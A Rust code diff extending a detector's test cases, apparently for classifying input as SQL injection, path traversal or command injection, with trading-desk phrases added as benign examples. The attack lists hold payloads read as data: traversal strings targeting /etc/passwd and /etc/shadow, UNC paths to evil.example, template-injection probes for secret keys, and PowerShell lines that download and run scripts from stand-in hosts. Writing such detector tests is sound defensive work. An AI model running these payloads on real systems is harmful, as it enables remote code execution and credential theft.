@@ -1401,7 +1401,20 @@ fn review_hunt_shapes() {
         Class::Sqli,
     );
     assert_attacks(&["/etc/./passwd", "/etc//passwd", "//etc//shadow", "..//..//etc//passwd", "\\\\evil.example\\share\\x.php", "\\\\evil.example@SSL\\DavWWWRoot\\x.php", "\\\\10.0.0.5\\share\\evil.dll"], Class::Traversal);
-    assert_attacks(&["& w^h^o^a^m^i", "| w^h^o^a^m^i", "; iex (iwr http://evil.example/p.ps1)", "; Start-Process calc.exe", "{{person.secret}}", "{{7*7}}", "{{settings.SECRET_KEY}}"], Class::Cmdi);
+    assert_attacks(
+        &[
+            "& w^h^o^a^m^i",
+            "| w^h^o^a^m^i",
+            "; iex (iwr http://evil.example/p.ps1)",
+            "& iex $env:PAYLOAD",
+            "; IEX (New-Object Net.WebClient).DownloadString('http://x/p.ps1')",
+            "; Start-Process calc.exe",
+            "{{person.secret}}",
+            "{{7*7}}",
+            "{{settings.SECRET_KEY}}",
+        ],
+        Class::Cmdi,
+    );
     assert_benign(
         &[
             "Benchmark(SPY)",
@@ -1416,6 +1429,16 @@ fn review_hunt_shapes() {
             "C++ developer notes",
             "Create extension list for the OMS",
             "alter server settings tomorrow",
+            // (a third review's notes: IEX is an exchange; CREATE/ALTER/DROP words of prose)
+            "partial fill | IEX | 200 shares",
+            "Venue: NYSE; IEX 200 @ 12.5",
+            "ARCA; iex",
+            "FIX gw down; create server ticket",
+            "Compliance; alter policy on margin calls",
+            "Filled 200; drop policy review tomorrow",
+            "Cancel; drop subscription Bloomberg",
+            "Closed; create extension request for OMS",
+            "TODO; create publication for clients",
         ],
         Context::Auto,
     );
